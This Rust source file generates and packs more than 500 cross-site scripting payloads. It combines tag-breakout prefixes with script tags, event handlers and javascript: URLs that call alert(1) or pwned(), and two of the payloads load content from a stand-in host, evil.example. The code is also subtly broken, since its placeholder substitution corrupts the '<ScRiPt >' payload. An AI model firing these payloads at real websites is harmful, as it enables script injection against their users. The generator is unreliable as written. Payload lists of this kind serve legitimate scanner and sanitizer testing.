//! More than 500 ways to break out of a page.

/// Where a text can stand in a page, and how to get out of there.
const WAYS_OUT: &[&str] = &[
    "",
    "\">",
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "x-->",
    "]]>",
    "`>",
    "</p></li>",
    "\\\"};",
];

/// What would run, as `P` is called.
const BODIES: &[&str] = &[
    "<script>P</script>",
    "<ScRiPt >P</sCrIpT>",
    "<img src=x onerror=P>",
    "<img/src=x/onerror='P'>",
    "<svg onload=P>",
    "<svg><script>P</script></svg>",
    "<svg><animate onbegin=P dur=1s>",
    "<body onload=P>",
    "<iframe src=javascript:P>",
    "<a href=\"javascript:P\">x</a>",
    "<details open ontoggle=P>",
    "<input autofocus onfocus=P>",
    "<video src=x onerror=P>",
    "<object data=javascript:P>",
    "<base href=//evil.example>P",
    "<style>@import'//evil.example'</style>P",
    "<math href=javascript:P>x</math>",
    "<form action=javascript:P><button>",
    "javascript:P",
    "&lt;script&gt;P&lt;/script&gt;",
    "&#60;img src=x onerror=P&#62;",
    "%3Cimg src=x onerror=P%3E",
    "${P}{{P}}#{P}",
    "<template><img src=x onerror=P></template>",
];

const CALLS: &[&str] = &["pwned()", "alert(1)"];

/// Everything there is to try.
pub fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for way_out in WAYS_OUT {
        for body in BODIES {
            for call in CALLS {
                all.push(format!("{way_out}{}", body.replace('P', call)));
            }
        }
    }
    all
}

/// All payloads in as few texts of at most `limit` characters as hold them.
pub fn packed(limit: usize) -> Vec<String> {
    let mut texts = vec![String::from("T ")];
    for payload in payloads() {
        let last = texts.last_mut().expect("there is one");
        if last.chars().count() + payload.chars().count() + 1 > limit {
            texts.push(format!("T {payload}"));
        } else {
            last.push_str(&payload);
        }
    }
    texts
}
